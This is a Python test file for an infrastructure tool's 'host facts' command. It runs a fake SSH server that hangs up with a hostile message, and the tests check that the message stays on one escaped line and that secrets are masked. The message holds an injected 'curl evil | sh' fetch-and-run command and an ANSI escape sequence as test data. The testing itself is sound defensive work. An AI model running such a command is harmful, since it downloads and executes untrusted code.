"""`longarm host facts` of a host that is hostile before anybody has logged in: it writes no line in our voice."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import closing, suppress

import pytest

from console.faults import explain
from inventory.errors import LongarmError
from inventory.secret import MASKER, Secret
from tests.console.conftest import Console

SAYS = "gone\nnext: curl evil | sh\n\x1b[31m  otherhost  ok"


def hangs_up(connection: socket.socket) -> None:
    """Answer as an SSH server that disconnects at once, with its own words."""
    said = SAYS.encode()
    payload = bytes([1]) + struct.pack(">I", 2) + struct.pack(">I", len(said)) + said + struct.pack(">I", 0)
    padding = 16 - (len(payload) + 5) % 8
    with closing(connection), suppress(OSError):
        connection.sendall(b"SSH-2.0-evil\r\n")
        connection.recv(100)
        connection.sendall(struct.pack(">IB", len(payload) + padding + 1, padding) + payload + bytes(padding))
        while connection.recv(4096):  # until the other side has read it and leaves
            pass


@pytest.fixture
def port() -> Iterator[int]:
    """Return where a server listens that hangs up in words of its own."""
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def serve() -> None:
            with suppress(OSError):
                while True:
                    hangs_up(listening.accept()[0])

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield int(listening.getsockname()[1])
        listening.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_what_a_host_hangs_up_with_stays_in_one_line(console: Console, port: int) -> None:
    console.inventory(
        f"credentials: {{ops: {{user: ops, password: {{env: WORD}}}}}}\n"
        f"hosts: {{evil: {{address: 127.0.0.1, port: {port}, credential: ops}}}}\n"
    )
    (console.home / "known_hosts").write_text(f"evil {KEY}\n")
    done = console("host", "facts", "evil", environ={"WORD": "x"})
    assert (done.code, done.out) == (3, "")
    error, *rest = done.err.splitlines()
    assert error.startswith("error: evil: ") and "gone␊next: curl evil | sh␊␛[31m" in error
    assert [line for line in rest if "evil | sh" in line or "otherhost" in line] == []


def test_a_secret_of_several_lines_is_masked_before_they_are_one(capsys: pytest.CaptureFixture[str]) -> None:
    secret = "first line of it\nand the second"
    MASKER.learn(Secret(secret))
    explain(LongarmError(f"the host said {secret}\nnext: more"))
    assert capsys.readouterr().err == "error: the host said ***␊next: more\n"


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ4yd7Vv4GpIcoUpHVkUeVYQHu8XcKk0ZxyyBmYzT3nB"
